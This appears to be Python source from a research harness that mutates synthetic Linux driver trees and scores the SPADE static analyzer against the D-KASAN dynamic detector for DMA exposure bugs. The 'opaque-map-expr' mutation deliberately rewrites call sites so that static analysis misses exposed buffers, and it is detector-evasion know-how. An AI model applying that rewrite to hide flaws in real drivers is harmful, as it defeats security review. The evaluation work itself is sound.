        os.makedirs(parent, exist_ok=True)
    with open(cross_output, "w", encoding="utf-8") as handle:
        for record in cross:
            handle.write(json.dumps(record, sort_keys=True) + "\n")
    for record in cross:
        metrics.count("campaign", "backend_disagreements",
                      kind=record["kind"])
    return MultiBackendSummary(
        backends=[spec.name for spec in specs], summaries=summaries,
        digests=digests, outputs=outputs, cross=cross,
        cross_output=cross_output)


def format_multi_backend_summary(multi: MultiBackendSummary) -> str:
    """The cross-backend block the CLI prints below the per-backend
    summaries."""
    lines = [f"cross-backend differential: "
             f"{', '.join(multi.backends)}"]
    rows = []
    for name in multi.backends:
        summary = multi.summaries[name]
        rows.append([name, str(summary.nr_ok), str(summary.nr_failed),
                     str(sum(summary.disagreements.values())),
                     multi.digests[name][:16]])
    lines.append(render_table(
        ["backend", "ok", "failed", "sp-vs-dk", "findings digest"],
        rows))
    kinds = Counter(record["kind"] for record in multi.cross)
    seeds = {record["seed"] for record in multi.cross}
    lines.append(f"backend-dependent disagreements: {multi.nr_cross} "
                 f"across {len(seeds)} seed(s)")
    if kinds:
        lines.append(render_table(
            ["kind", "count"],
            [[kind, str(count)] for kind, count in sorted(kinds.items())]))
    for record in multi.cross[:5]:
        if record["kind"] == "backend-window":
            windows = ", ".join(
                f"{name}={'open' if open_ else 'closed'}"
                for name, open_ in sorted(record["windows"].items()))
            lines.append(f"  seed {record['seed']} {record['site']}: "
                         f"{windows}")
        else:
            verdicts = ", ".join(
                f"{name}={verdict or 'agree'}"
                for name, verdict in sorted(record["verdicts"].items()))
            lines.append(f"  seed {record['seed']} {record['site']}: "
                         f"{verdicts}")
    if multi.cross_output:
        lines.append(f"cross-backend records: {multi.cross_output}")
    return "\n".join(lines)
