"""Corpus mutation: many randomized driver trees per campaign.

A campaign does not fuzz raw bytes -- it perturbs the *generated*
corpus the way DICE and DyMA-Fuzz perturb DMA channels: struct layouts
shift, callback pointers move within their structs, dma-map call-site
shapes change, and extra benign call sites appear. Every mutation has
a known effect on ground truth, so the mutated tree always carries an
exact :class:`~repro.corpus.manifest.Manifest`:

``pad-struct``
    insert a padding field at the top of the file's first driver
    struct (layout perturbation; truth-preserving).
``move-callback``
    move a ``(*done)`` callback pointer to the end of its struct
    (callback placement; truth-preserving -- pahole still sees it).
``opaque-map-expr``
    reroute a struct-embedded mapped expression (``&op->rsp_iu``)
    through opaque pointer arithmetic at a mutated offset. The buffer
    -- and its co-located callbacks -- are still exposed, but the
    rewritten source defeats SPADE's backtracking: a *deliberate
    static false negative* that only the dynamic side still catches.
``swap-direction``
    flip DMA_TO_DEVICE <-> DMA_FROM_DEVICE at one call site
    (truth-preserving; exposure is about co-location, not direction).
``clone-benign``
    append an extra flat-kmalloc call site to a file (grows the
    benign population; the manifest gains a non-vulnerable site).

Mutations are planned deterministically per campaign seed and can be
re-applied in any subset -- the contract the shrinker's bisection
relies on.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro import perfcache
from repro.corpus.generate import (GENERATOR_VERSION, CorpusGenerator,
                                   SourceTree)
from repro.corpus.linux50 import (LINUX50_COMPOSITION, CategorySpec,
                                  scaled_composition)
from repro.corpus.manifest import CallSiteTruth, Manifest
from repro.corpus.nvme_fc import NVME_FC_PATH
from repro.errors import CampaignError
from repro.sim.rng import DeterministicRng

MUTATION_KINDS = ("pad-struct", "move-callback", "opaque-map-expr",
                  "swap-direction", "clone-benign")

#: planning weights: truth-preserving noise dominates, with a steady
#: trickle of SPADE-defeating rewrites and corpus growth
_KIND_WEIGHTS = (("pad-struct", 4), ("move-callback", 2),
                 ("opaque-map-expr", 3), ("swap-direction", 3),
                 ("clone-benign", 2))

_MAP_LINE = "dma_map_single("
_STRUCT_MAP_RE = re.compile(r"&(\w+)->(\w+)")
_DONE_FIELD_RE = re.compile(r"^\s+void \(\*done\)")
_DRV_RE = re.compile(r"([a-z][a-z0-9]*)_main\.c$")


@dataclass(frozen=True)
class Mutation:
    """One planned perturbation of one file."""

    kind: str
    path: str
    index: int = 0       # which eligible site/struct within the file
    detail: str = ""     # kind-specific parameter (e.g. the offset)

    def to_json(self) -> dict:
        return {"kind": self.kind, "path": self.path,
                "index": self.index, "detail": self.detail}

    @classmethod
    def from_json(cls, record: dict) -> "Mutation":
        return cls(record["kind"], record["path"],
                   record.get("index", 0), record.get("detail", ""))


@dataclass
class MutatedCorpus:
    """One campaign seed's derived tree plus its exact ground truth."""

    tree: SourceTree
    manifest: Manifest
    mutations: list[Mutation] = field(default_factory=list)


def _map_line_indices(lines: list[str]) -> list[int]:
    return [i for i, line in enumerate(lines) if _MAP_LINE in line]


def _encode_base(pair: tuple[SourceTree, Manifest]) -> dict:
    tree, manifest = pair
    return {"files": tree.files,
            "sites": [[s.path, s.line, s.category, sorted(s.exposures)]
                      for s in manifest.sites]}


def _decode_base(payload: dict) -> tuple[SourceTree, Manifest]:
    tree = SourceTree(dict(payload["files"]))
    manifest = Manifest([
        CallSiteTruth(path, line, category, frozenset(exposures))
        for path, line, category, exposures in payload["sites"]])
    return tree, manifest


class CorpusMutator:
    """Derives mutated corpora from one base ``repro.corpus`` seed."""

    def __init__(self, base_seed: int = 2021, *, scale: float = 1.0,
                 composition: tuple[CategorySpec, ...] | None = None
                 ) -> None:
        self.base_seed = base_seed
        self.scale = scale
        self.composition = composition if composition is not None \
            else scaled_composition(scale, composition=LINUX50_COMPOSITION)
        #: the adopted canonical base pair (see :meth:`adopt_base`);
        #: ``None`` until the first base_view()/adopt_base() call
        self._base_pair: tuple[SourceTree, Manifest] | None = None

    # -- base corpus ---------------------------------------------------------

    def base_key(self) -> str:
        """Content key identifying this mutator's base corpus."""
        return perfcache.content_key("corpus", str(GENERATOR_VERSION),
                                     str(self.base_seed),
                                     repr(self.composition))

    def base_view(self) -> tuple[SourceTree, Manifest]:
        """The canonical base corpus, shared and **read-only**.

        This is the zero-copy path the campaign hot loop uses: every
        ``plan``/``apply`` call for every seed reads the very same
        tree and manifest objects, so the base is never re-copied per
        seed. Callers must not mutate the returned pair -- use
        :meth:`base` for a private copy.
        """
        if self._base_pair is None:
            self._base_pair = perfcache.default_cache().cached(
                "corpus", self.base_key(), self._generate_base,
                encode=_encode_base, decode=_decode_base)
        return self._base_pair

    def adopt_base(self, tree: SourceTree, manifest: Manifest) -> None:
        """Install an externally materialized base corpus.

        Warm campaign workers call this with the pair decoded from the
        shared on-disk snapshot (see :mod:`repro.campaign.snapshot`),
        skipping both regeneration and the per-entry disk-cache walk.
        The pair becomes the read-only canonical base; the caller must
        not mutate it afterwards.
        """
        self._base_pair = (tree, manifest)

    def base(self) -> tuple[SourceTree, Manifest]:
        """A private, mutable copy of the base corpus.

        Generation is deterministic, so the canonical pair is cached
        by (generator version, seed, composition); each call copies
        the file dict and site list (the file texts and the frozen
        :class:`CallSiteTruth` records themselves are shared).
        """
        tree, manifest = self.base_view()
        return (SourceTree(dict(tree.files)),
                Manifest(list(manifest.sites)))

    def _generate_base(self) -> tuple[SourceTree, Manifest]:
        return CorpusGenerator(seed=self.base_seed,
                               composition=self.composition).generate()

    def _eligible_paths(self, manifest: Manifest) -> dict[str, list[str]]:
        """kind -> file paths the kind can perturb (nvme_fc is
        handcrafted and left untouched)."""
        category_of: dict[str, str] = {}
        for site in manifest.sites:
            category_of.setdefault(site.path, site.category)
        generated = [p for p in sorted(category_of)
                     if p != NVME_FC_PATH and _DRV_RE.search(p)]
        callbacks = [p for p in generated
                     if category_of[p] in ("callback_direct",
                                           "callback_spoof")]
        direct = [p for p in generated
                  if category_of[p] == "callback_direct"]
        return {
            "pad-struct": generated,
            "move-callback": direct,
            "opaque-map-expr": callbacks,
            "swap-direction": generated,
            "clone-benign": generated,
        }

    # -- planning ------------------------------------------------------------

    def plan(self, seed: int, nr_mutations: int = 6) -> list[Mutation]:
        """A deterministic mutation list for one campaign seed."""
        if nr_mutations < 0:
            raise CampaignError(f"bad mutation count {nr_mutations}")
        _tree, manifest = self.base_view()
        eligible = self._eligible_paths(manifest)
        rng = DeterministicRng(seed, domain="campaign/plan")
        weighted = [kind for kind, weight in _KIND_WEIGHTS
                    for _ in range(weight)]
        mutations: list[Mutation] = []
        used: set[tuple[str, str]] = set()
        attempts = 0
        while len(mutations) < nr_mutations and attempts < 20 * (
                nr_mutations + 1):
            attempts += 1
            kind = rng.choice(weighted)
            paths = eligible[kind]
            if not paths:
                continue
            path = rng.choice(paths)
            if (kind, path) in used:
                continue
            used.add((kind, path))
            detail = ""
            if kind == "opaque-map-expr":
                detail = str(rng.choice((8, 16, 24, 32)))
            mutations.append(Mutation(kind, path, index=0, detail=detail))
        return mutations

    # -- application ---------------------------------------------------------

    def apply(self, mutations: list[Mutation]) -> MutatedCorpus:
        """Apply *mutations* (any subset, any order) to the base
        corpus with the manifest kept exactly in sync.

        Copy-on-write over :meth:`base_view`: only mutated files get
        new text; every untouched file's string is shared with the
        canonical base, so a seed's derivation never copies the
        corpus.
        """
        base_tree, manifest = self.base_view()
        by_path: dict[str, list[Mutation]] = {}
        for mutation in mutations:
            if mutation.kind not in MUTATION_KINDS:
                raise CampaignError(f"unknown mutation kind "
                                    f"{mutation.kind!r}")
            by_path.setdefault(mutation.path, []).append(mutation)

        old_sites: dict[str, list[CallSiteTruth]] = {}
        for site in manifest.sites:
            old_sites.setdefault(site.path, []).append(site)

        new_manifest = Manifest()
        mutated_files: dict[str, str] = {}
        for path, file_mutations in by_path.items():
            text = base_tree.read(path)
            appended = 0
            for mutation in file_mutations:
                text, grew = self._apply_one(text, mutation)
                appended += grew
            mutated_files[path] = text
            self._resync_file(new_manifest, path, text,
                              sorted(old_sites.get(path, []),
                                     key=lambda s: s.line), appended)
        for site in manifest.sites:
            if site.path not in by_path:
                new_manifest.add(site)
        merged = dict(base_tree.files)
        merged.update(mutated_files)
        return MutatedCorpus(SourceTree(merged), new_manifest,
                             list(mutations))

    def derive(self, seed: int, nr_mutations: int = 6) -> MutatedCorpus:
        return self.apply(self.plan(seed, nr_mutations))

    # -- individual mutations -------------------------------------------------

    def _apply_one(self, text: str, mutation: Mutation
                   ) -> tuple[str, int]:
        """Apply one mutation; returns (new text, #sites appended)."""
        handler = {
            "pad-struct": self._mutate_pad_struct,
            "move-callback": self._mutate_move_callback,
            "opaque-map-expr": self._mutate_opaque_map_expr,
            "swap-direction": self._mutate_swap_direction,
            "clone-benign": self._mutate_clone_benign,
        }[mutation.kind]
        return handler(text, mutation)

    def _mutate_pad_struct(self, text: str, mutation: Mutation
                           ) -> tuple[str, int]:
        lines = text.splitlines(keepends=True)
        opens = [i for i, line in enumerate(lines)
                 if re.match(r"struct \w+ \{$", line.rstrip())]
        if not opens:
            raise CampaignError(f"{mutation.path}: no struct to pad")
        at = opens[mutation.index % len(opens)]
        lines.insert(at + 1, f"    u32 mut_pad{mutation.index};\n")
        return "".join(lines), 0

    def _mutate_move_callback(self, text: str, mutation: Mutation
                              ) -> tuple[str, int]:
        lines = text.splitlines(keepends=True)
        done_at = next((i for i, line in enumerate(lines)
                        if _DONE_FIELD_RE.match(line)), None)
        if done_at is None:
            raise CampaignError(
                f"{mutation.path}: no (*done) callback to move")
        close_at = next((i for i in range(done_at + 1, len(lines))
                         if lines[i].startswith("};")), None)
        if close_at is None:
            raise CampaignError(f"{mutation.path}: unterminated struct")
        done_line = lines.pop(done_at)
        lines.insert(close_at - 1, done_line)
        return "".join(lines), 0

    def _mutate_opaque_map_expr(self, text: str, mutation: Mutation
                                ) -> tuple[str, int]:
        """Defeat SPADE's backtracking at one struct-embedded site.

        ``dma_map_single(dev, &op->rsp_iu, ...)`` becomes a map of a
        local ``u8 *`` derived via cast-plus-offset arithmetic -- the
        "complex constructs" class the paper's section 4.3 names as
        SPADE's false-negative source. Ground truth is unchanged: the
        device still sees the callback-bearing struct's page.
        """
        offset = int(mutation.detail or "16")
        lines = text.splitlines(keepends=True)
        candidates = [i for i in _map_line_indices(lines)
                      if _STRUCT_MAP_RE.search(lines[i])]
        if not candidates:
            raise CampaignError(
                f"{mutation.path}: no struct-embedded map expression "
                f"to make opaque")
        at = candidates[mutation.index % len(candidates)]
        match = _STRUCT_MAP_RE.search(lines[at])
        base_var = match.group(1)
        mut_var = f"mut_p{mutation.index}"
        indent = lines[at][:len(lines[at]) - len(lines[at].lstrip())]
        lines[at] = lines[at].replace(match.group(0), mut_var, 1)
        lines.insert(at, f"{indent}{mut_var} = (u8 *){base_var} + "
                         f"{offset};\n")
        lines.insert(at, f"{indent}u8 *{mut_var};\n")
        return "".join(lines), 0

    def _mutate_swap_direction(self, text: str, mutation: Mutation
                               ) -> tuple[str, int]:
        lines = text.splitlines(keepends=True)
        map_lines = _map_line_indices(lines)
        if not map_lines:
            raise CampaignError(f"{mutation.path}: no dma-map site")
        at = map_lines[mutation.index % len(map_lines)]
        for i in (at, at + 1):
            if i >= len(lines):
                break
            if "DMA_TO_DEVICE" in lines[i]:
                lines[i] = lines[i].replace("DMA_TO_DEVICE",
                                            "DMA_FROM_DEVICE", 1)
                return "".join(lines), 0
            if "DMA_FROM_DEVICE" in lines[i]:
                lines[i] = lines[i].replace("DMA_FROM_DEVICE",
                                            "DMA_TO_DEVICE", 1)
                return "".join(lines), 0
        return "".join(lines), 0  # DMA_BIDIRECTIONAL site: no-op

    def _mutate_clone_benign(self, text: str, mutation: Mutation
                             ) -> tuple[str, int]:
        match = _DRV_RE.search(mutation.path)
        if match is None:
            raise CampaignError(
                f"{mutation.path}: cannot derive driver name")
        drv = match.group(1)
        extra = f"""
static int {drv}_mut_extra_{mutation.index}(struct {drv}_dev *xdev,
                                            u32 len)
{{
    u8 *buf;
    dma_addr_t dma;

    buf = kmalloc(len, GFP_KERNEL);
    if (!buf)
        return -12;
    dma = dma_map_single(xdev->dma_dev, buf, len, DMA_TO_DEVICE);
    return 0;
}}
"""
        return text + extra, 1

    # -- manifest resynchronization -------------------------------------------

    def _resync_file(self, manifest: Manifest, path: str, text: str,
                     old: list[CallSiteTruth], appended: int) -> None:
        """Rebind a file's ground truth to its post-mutation lines.

        Mutations preserve the relative order of dma-map call sites
        and only ever *append* new (benign) ones, so the old truth
        records zip against the recomputed line numbers positionally.
        """
        new_lines = [i + 1 for i, line in enumerate(text.splitlines())
                     if _MAP_LINE in line]
        if len(new_lines) != len(old) + appended:
            raise CampaignError(
                f"{path}: {len(new_lines)} dma-map sites after "
                f"mutation, expected {len(old)} + {appended} appended")
        for site, line in zip(old, new_lines):
            manifest.add(CallSiteTruth(path, line, site.category,
                                       site.exposures))
        for line in new_lines[len(old):]:
            manifest.add(CallSiteTruth(path, line, "benign", frozenset()))
