"""The differential oracle: SPADE vs D-KASAN vs ground truth.

Per campaign seed, the same mutated corpus is judged three ways:

* **statically** -- SPADE analyzes the mutated tree and labels every
  dma-map call site;
* **dynamically** -- a fresh simulated kernel replays every manifest
  call site under D-KASAN (:func:`repro.sim.workload.run_manifest_replay`);
* **truth** -- the mutator's manifest says what each site really
  exposes.

Scoring is per-site and per-vulnerability-type for both detectors,
plus the differential signal the campaign exists for: sites where the
static and dynamic verdicts *disagree*, classified by who the
manifest says is wrong.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass, field

from repro.corpus.generate import SourceTree
from repro.corpus.manifest import Manifest

#: disagreement classification, from the manifest's point of view
VERDICTS = ("spade-miss",    # vulnerable, D-KASAN caught it, SPADE blind
            "dkasan-miss",   # vulnerable, SPADE caught it, D-KASAN blind
            "spade-fp",      # benign, but SPADE flagged it
            "dkasan-fp")     # benign, but D-KASAN flagged it


@dataclass(frozen=True)
class Disagreement:
    """One static-vs-dynamic split decision on one call site."""

    path: str
    site_index: int          # index among the file's sites (line-stable)
    line: int
    category: str
    truth: tuple[str, ...]
    spade_labels: tuple[str, ...]
    dkasan_hit: bool
    verdict: str

    def to_json(self) -> dict:
        return {"path": self.path, "site_index": self.site_index,
                "line": self.line, "category": self.category,
                "truth": list(self.truth),
                "spade_labels": list(self.spade_labels),
                "dkasan_hit": self.dkasan_hit, "verdict": self.verdict}

    @classmethod
    def from_json(cls, record: dict) -> "Disagreement":
        return cls(record["path"], record["site_index"], record["line"],
                   record["category"], tuple(record["truth"]),
                   tuple(record["spade_labels"]), record["dkasan_hit"],
                   record["verdict"])


@dataclass
class DetectorScore:
    """tp/fp/fn tallies, overall and per type."""

    tp: int = 0
    fp: int = 0
    fn: int = 0
    per_type: dict[str, list[int]] = field(default_factory=dict)

    def count(self, key: str, outcome: str) -> None:
        slot = self.per_type.setdefault(key, [0, 0, 0])
        index = ("tp", "fp", "fn").index(outcome)
        slot[index] += 1
        setattr(self, outcome, getattr(self, outcome) + 1)

    @property
    def precision(self) -> float:
        return self.tp / (self.tp + self.fp) if self.tp + self.fp else 1.0

    @property
    def recall(self) -> float:
        return self.tp / (self.tp + self.fn) if self.tp + self.fn else 1.0

    def to_json(self) -> dict:
        return {"tp": self.tp, "fp": self.fp, "fn": self.fn,
                "per_type": {k: list(v)
                             for k, v in sorted(self.per_type.items())}}

    @classmethod
    def from_json(cls, record: dict) -> "DetectorScore":
        return cls(record["tp"], record["fp"], record["fn"],
                   {k: list(v) for k, v in record["per_type"].items()})


@dataclass
class DifferentialResult:
    """Everything one seed's differential run measured."""

    seed: int
    nr_sites: int
    spade: DetectorScore
    dkasan: DetectorScore
    disagreements: list[Disagreement]
    spade_fn_exemplars: list[str] = field(default_factory=list)
    dkasan_fn_exemplars: list[str] = field(default_factory=list)
    #: last-N flight-recorder events from the dynamic replay, captured
    #: only when the detectors disagreed (JSON dicts, oldest first)
    trace_tail: list[dict] = field(default_factory=list)
    #: non-default backend the replay ran on, else None (the default
    #: keeps pre-backend records byte-identical)
    backend: str | None = None
    #: per-site post-unmap window observations ("path:line" -> open),
    #: measured only on non-default-backend runs
    window_sites: dict[str, bool] = field(default_factory=dict)
    #: deterministic coverage signature of the dynamic replay (see
    #: :mod:`repro.coverage`); None when coverage was disabled
    coverage: dict | None = None

    @property
    def agreement_rate(self) -> float:
        if not self.nr_sites:
            return 1.0
        return 1.0 - len(self.disagreements) / self.nr_sites


def run_differential(tree: SourceTree, manifest: Manifest, *,
                     seed: int = 0, max_exemplars: int = 5,
                     phys_mb: int = 256,
                     trace_events: int = 0,
                     backend: str | None = None,
                     coverage: bool = True) -> DifferentialResult:
    """Run both detectors over one (tree, manifest) pair and score.

    ``trace_events > 0`` runs the dynamic replay under a bounded
    flight recorder (dma/iommu/dkasan categories) whose last *N*
    events are attached to the result when the detectors disagree --
    the context a triager needs to see *why* D-KASAN fired (or stayed
    silent) at the disputed call site. An already-installed recorder
    (e.g. a surrounding ``repro-dma trace`` session) is reused as-is.

    ``coverage`` (the default) additionally derives the replay's
    deterministic coverage signature (:mod:`repro.coverage`). The
    collector *streams* from the recorder via an observer hook, so the
    signature is independent of ``trace_events``: with tracing off a
    minimal capacity-1 recorder is installed purely to drive the
    stream, and the retained ring (hence ``trace_tail`` and the
    findings bytes) is untouched.

    ``backend`` selects the IOMMU model for the dynamic replay. The
    default (``None`` or ``"intel-vtd"``) is the exact pre-backend
    path, byte-identical results included. Any other backend boots
    the kernel with that model under its *default invalidation mode*
    and additionally probes every site's post-unmap vulnerability
    window (Fig 6 per call site), recorded in ``window_sites`` --
    the axis cross-backend campaigns diff.
    """
    from repro import backends as backend_registry
    from repro import trace
    from repro.core.dkasan import DKasan
    from repro.core.spade import Spade, exposures_by_site
    from repro.coverage import COVERAGE_CATEGORIES, CoverageCollector
    from repro.sim.kernel import Kernel
    from repro.sim.workload import run_manifest_replay

    backend_name = backend_registry.backend_label(backend)
    spec = (backend_registry.resolve_backend(backend_name)
            if backend_name is not None else None)

    spade_labels = exposures_by_site(Spade(tree).analyze())

    collector = CoverageCollector() if coverage else None
    recorder = None
    owns_recorder = False
    if trace_events > 0 or collector is not None:
        recorder = trace.active()
        if recorder is None:
            # capacity == N: the drop-oldest ring natively keeps the
            # last N events, bounding per-seed memory in big campaigns
            # (capacity 1 when the recorder exists only to stream
            # coverage -- observers see every event pre-drop)
            recorder = trace.install(trace.TraceRecorder(
                capacity=max(trace_events, 1),
                categories=COVERAGE_CATEGORIES))
            owns_recorder = True
    if collector is not None and recorder is not None:
        recorder.add_observer(collector.feed)
    try:
        dkasan = DKasan(phys_mb << 20)
        if spec is None:
            kernel = Kernel(seed=seed, phys_mb=phys_mb,
                            iommu_mode="strict",
                            boot_jitter_pages=0, boot_jitter_blocks=0,
                            sink=dkasan)
            replay = run_manifest_replay(kernel, manifest)
        else:
            kernel = Kernel(seed=seed, phys_mb=phys_mb,
                            iommu_mode=spec.default_mode,
                            iommu_backend=spec,
                            boot_jitter_pages=0, boot_jitter_blocks=0,
                            sink=dkasan)
            replay = run_manifest_replay(kernel, manifest,
                                         probe_windows=True)
    finally:
        if collector is not None and recorder is not None:
            recorder.remove_observer(collector.feed)
        if owns_recorder:
            trace.uninstall()
    dynamic_hits = dkasan.detected_site_functions()

    spade_score = DetectorScore()
    dkasan_score = DetectorScore()
    disagreements: list[Disagreement] = []
    spade_fn: list[str] = []
    dkasan_fn: list[str] = []

    site_index: dict[str, int] = defaultdict(int)
    for site in sorted(manifest.sites, key=lambda s: (s.path, s.line)):
        index = site_index[site.path]
        site_index[site.path] += 1
        predicted = spade_labels.get((site.path, site.line), frozenset())
        # SPADE: per-exposure-label scoring (the per-type columns)
        for label in predicted | site.exposures:
            if label in predicted and label in site.exposures:
                spade_score.count(label, "tp")
            elif label in predicted:
                spade_score.count(label, "fp")
            else:
                spade_score.count(label, "fn")
        spade_hit = bool(predicted)
        dkasan_hit = f"{site.path}:{site.line}" in dynamic_hits
        # D-KASAN: per-category site detection (it has no label view)
        if dkasan_hit and site.vulnerable:
            dkasan_score.count(site.category, "tp")
        elif dkasan_hit:
            dkasan_score.count(site.category, "fp")
        elif site.vulnerable:
            dkasan_score.count(site.category, "fn")
        if site.vulnerable and not spade_hit \
                and len(spade_fn) < max_exemplars:
            spade_fn.append(f"{site.path}:{site.line} "
                            f"[{','.join(sorted(site.exposures))}]")
        if site.vulnerable and not dkasan_hit \
                and len(dkasan_fn) < max_exemplars:
            dkasan_fn.append(f"{site.path}:{site.line} "
                             f"[{','.join(sorted(site.exposures))}]")
        if spade_hit == dkasan_hit:
            continue
        if site.vulnerable:
            verdict = "spade-miss" if dkasan_hit else "dkasan-miss"
        else:
            verdict = "spade-fp" if spade_hit else "dkasan-fp"
        disagreements.append(Disagreement(
            site.path, index, site.line, site.category,
            tuple(sorted(site.exposures)), tuple(sorted(predicted)),
            dkasan_hit, verdict))

    trace_tail: list[dict] = []
    if recorder is not None and disagreements:
        trace_tail = [event.to_json()
                      for event in recorder.tail(trace_events)]
    result = DifferentialResult(seed, manifest.nr_calls, spade_score,
                                dkasan_score, disagreements,
                                spade_fn, dkasan_fn, trace_tail)
    if spec is not None:
        result.backend = spec.name
        result.window_sites = dict(replay.window_sites)
    if collector is not None:
        result.coverage = collector.record(backend=backend_name)
    return result
