"""Campaign result persistence and aggregation.

One JSON record per seed, appended to ``results.jsonl`` as soon as the
seed finishes -- a crashed or interrupted campaign loses at most the
in-flight seeds, and ``--resume`` skips everything already recorded.
The summary aggregates per-type precision/recall for both detectors
across all completed seeds, Table-2 style.
"""

from __future__ import annotations

import hashlib
import json
import os
from collections import Counter
from dataclasses import dataclass, field

from repro import durability
from repro.campaign.mutate import Mutation
from repro.campaign.oracle import DetectorScore, DifferentialResult
from repro.report.tables import format_precision_recall, render_table

#: statuses that mean "this seed is done, do not rerun on --resume"
COMPLETED_STATUSES = ("ok",)


def result_record(result: DifferentialResult,
                  mutations: list[Mutation], *,
                  duration_s: float = 0.0) -> dict:
    """Serialize one successful seed run to its JSONL record.

    Backend annotations (``backend``, ``window_sites``) appear only on
    non-default-backend results: default records must keep producing
    the pre-backend findings_digest byte-for-byte.
    """
    record = {
        "seed": result.seed,
        "status": "ok",
        "duration_s": round(duration_s, 4),
        "nr_sites": result.nr_sites,
        "mutations": [m.to_json() for m in mutations],
        "spade": result.spade.to_json(),
        "dkasan": result.dkasan.to_json(),
        "disagreements": [d.to_json() for d in result.disagreements],
        "spade_fn_exemplars": result.spade_fn_exemplars,
        "dkasan_fn_exemplars": result.dkasan_fn_exemplars,
        "trace_tail": result.trace_tail,
    }
    if result.backend is not None:
        record["backend"] = result.backend
        record["window_sites"] = {
            site: bool(open_) for site, open_
            in sorted(result.window_sites.items())}
    if result.coverage is not None:
        # deterministic (same seed + backend => same bytes across
        # jobs/shards/fault plans), so it is safely digest-relevant
        record["coverage"] = result.coverage
    return record


def failure_record(seed: int, status: str, error: str, *,
                   duration_s: float = 0.0) -> dict:
    return {"seed": seed, "status": status, "error": error,
            "duration_s": round(duration_s, 4)}


def append_record(path: str, record: dict) -> None:
    """Append one result line through the journaled durability layer:
    newline-guarded (a torn tail never swallows the next record),
    checksummed, and fsynced under ``REPRO_DURABILITY=fsync``."""
    durability.append_jsonl(path, record)


def load_records(path: str, *,
                 on_bad_line=None) -> dict[int, dict]:
    """seed -> latest record. Tolerates torn or corrupt lines (the
    crash case resume exists for): a line that does not parse -- or
    whose embedded checksum fails -- is skipped; its seed simply is
    not "completed", so ``--resume`` re-runs it. *on_bad_line(lineno,
    line)* is called for each skipped line so the runner can warn."""
    records: dict[int, dict] = {}
    for lineno, record in durability.replay_jsonl(
            path, on_bad_line=on_bad_line):
        if "seed" in record:
            records[record["seed"]] = record
        elif on_bad_line is not None:
            on_bad_line(lineno, json.dumps(record, sort_keys=True))
    return records


#: record fields that vary across runs without changing the findings:
#: wall-clock, retry bookkeeping, and failure tracebacks
_VOLATILE_KEYS = ("duration_s", "attempt", "error")


def findings_digest(records: dict[int, dict]) -> str:
    """Hex SHA-256 over the completed records' *findings* -- everything
    except wall-clock and retry bookkeeping.

    This is the byte-identity the recoverable-fault differential
    invariant asserts (EXPERIMENTS E20): a campaign run under a
    recoverable tooling-fault plan must digest identically to the
    fault-free run at the same seed.
    """
    canon = []
    for seed in sorted(records):
        record = records[seed]
        if record.get("status") not in COMPLETED_STATUSES:
            continue
        canon.append({key: value for key, value in sorted(record.items())
                      if key not in _VOLATILE_KEYS})
    text = json.dumps(canon, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def completed_seeds(records: dict[int, dict]) -> set[int]:
    return {seed for seed, record in records.items()
            if record.get("status") in COMPLETED_STATUSES}


@dataclass
class CampaignSummary:
    """Aggregate view over every recorded seed."""

    nr_seeds: int = 0
    nr_ok: int = 0
    nr_failed: int = 0
    nr_sites: int = 0
    spade: DetectorScore = field(default_factory=DetectorScore)
    dkasan: DetectorScore = field(default_factory=DetectorScore)
    disagreements: Counter = field(default_factory=Counter)
    disagreeing_seeds: list[int] = field(default_factory=list)
    failures: list[tuple[int, str]] = field(default_factory=list)
    spade_fn_exemplars: list[str] = field(default_factory=list)
    dkasan_fn_exemplars: list[str] = field(default_factory=list)
    mutation_kinds: Counter = field(default_factory=Counter)
    #: coverage aggregation over the completed seeds' signatures
    coverage_features: int = 0
    coverage_seeds: int = 0
    coverage_features_per_seed: float = 0.0

    @property
    def all_ok(self) -> bool:
        return self.nr_failed == 0


def _merge_score(into: DetectorScore, record: dict) -> None:
    into.tp += record["tp"]
    into.fp += record["fp"]
    into.fn += record["fn"]
    for key, (tp, fp, fn) in record["per_type"].items():
        slot = into.per_type.setdefault(key, [0, 0, 0])
        slot[0] += tp
        slot[1] += fp
        slot[2] += fn


def summarize(records: dict[int, dict], *,
              max_exemplars: int = 8) -> CampaignSummary:
    summary = CampaignSummary()
    seen_features: set[str] = set()
    nr_seed_features = 0
    for seed in sorted(records):
        record = records[seed]
        summary.nr_seeds += 1
        if record.get("status") != "ok":
            summary.nr_failed += 1
            # the last traceback line carries the exception message
            error_lines = record.get("error", "").strip().splitlines()
            detail = error_lines[-1][:200] if error_lines else ""
            summary.failures.append(
                (seed, f"{record.get('status')}: {detail}"))
            continue
        summary.nr_ok += 1
        summary.nr_sites += record["nr_sites"]
        _merge_score(summary.spade, record["spade"])
        _merge_score(summary.dkasan, record["dkasan"])
        for mutation in record.get("mutations", ()):
            summary.mutation_kinds[mutation["kind"]] += 1
        if record["disagreements"]:
            summary.disagreeing_seeds.append(seed)
        for disagreement in record["disagreements"]:
            summary.disagreements[disagreement["verdict"]] += 1
        coverage = record.get("coverage")
        if coverage:
            summary.coverage_seeds += 1
            seen_features.update(coverage.get("features", ()))
            nr_seed_features += coverage.get("nr_features", 0)
        for exemplar in record.get("spade_fn_exemplars", ()):
            if len(summary.spade_fn_exemplars) < max_exemplars:
                summary.spade_fn_exemplars.append(
                    f"seed {seed}: {exemplar}")
        for exemplar in record.get("dkasan_fn_exemplars", ()):
            if len(summary.dkasan_fn_exemplars) < max_exemplars:
                summary.dkasan_fn_exemplars.append(
                    f"seed {seed}: {exemplar}")
    summary.coverage_features = len(seen_features)
    if summary.coverage_seeds:
        summary.coverage_features_per_seed = round(
            nr_seed_features / summary.coverage_seeds, 3)
    return summary


def format_summary(summary: CampaignSummary) -> str:
    """The Table-2-style aggregate block the CLI prints."""
    lines = [f"campaign: {summary.nr_seeds} seeds "
             f"({summary.nr_ok} ok, {summary.nr_failed} failed), "
             f"{summary.nr_sites} call sites scored"]
    if summary.mutation_kinds:
        kinds = ", ".join(f"{kind} x{count}" for kind, count
                          in sorted(summary.mutation_kinds.items()))
        lines.append(f"mutations applied: {kinds}")
    lines.append("")

    def score_rows(score: DetectorScore) -> list[tuple[str, int, int, int]]:
        rows = [(key, tp, fp, fn) for key, (tp, fp, fn)
                in sorted(score.per_type.items())]
        rows.append(("overall", score.tp, score.fp, score.fn))
        return rows

    lines.append(format_precision_recall(
        "SPADE (static, per exposure label)", score_rows(summary.spade)))
    lines.append("")
